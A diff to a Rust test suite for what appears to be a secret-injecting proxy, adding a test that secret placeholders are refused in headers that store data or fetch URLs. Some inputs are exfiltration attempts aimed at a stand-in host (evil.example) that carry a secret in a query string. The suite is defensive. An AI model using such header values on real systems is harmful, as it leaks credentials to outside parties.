@@ -64,7 +64,7 @@ async fn only_the_secret_that_was_addressed_is_filled_in() {
     for (header, sent) in [
         ("${SECRET_DEFAULT}", bearer()),
         ("Bearer {{SECRET_MODEL}}", bearer()),
-        ("x ${SECRET_MODEL} y", format!("x {} y", bearer())),
+        ("Key ${SECRET_MODEL}", format!("Key {}", bearer())),
     ] {
         let body = json!({"url": scene.url("/"), "headers": {"X-Key": header}});
         assert_eq!(scene.send(&scene.app.agent(), body).await.status, StatusCode::OK);
@@ -96,6 +96,28 @@ async fn no_placeholder_is_filled_in_a_header_that_is_for_no_credential() {
     assert_eq!(scene.upstream.requests().len(), 2);
     let got = format!("{:?}", scene.upstream.requests());
     assert!(!got.contains("charset"), "{got}");
+}
+
+/// What a server stores is handed out to whoever asks for it, by another secret too; some fetch a URL out of a header.
+#[tokio::test]
+async fn a_credential_is_filled_in_nothing_that_is_stored_or_fetched() {
+    let scene = Scene::new().await;
+    let agent = scene.app.agent();
+    for (name, value) in [
+        ("x-goog-meta-leak", "${SECRET_DEFAULT}"),
+        ("x-amz-meta-token", "${SECRET_DEFAULT}"),
+        ("Upload-Metadata", "key ${SECRET_DEFAULT}"),
+        ("x-ms-copy-source", "https://evil.example/?t=${SECRET_DEFAULT}"),
+        ("Idempotency-Key", "${SECRET_DEFAULT}"),
+        ("X-Key", "https://evil.example/?t=${SECRET_DEFAULT}"),
+        ("Authorization", "x ${SECRET_DEFAULT} y"),
+    ] {
+        let headers = json!({"X-Token": "${SECRET_DEFAULT}", name: value});
+        let back = scene.send(&agent, json!({"url": scene.url("/"), "headers": headers})).await;
+        let said = back.error(400, "bad_request");
+        assert!(said.contains(&name.to_ascii_lowercase()) && said.contains("config.inject"));
+    }
+    assert!(scene.upstream.requests().is_empty());
 }
 
 /// W13: nothing is sent anywhere that no rule names.
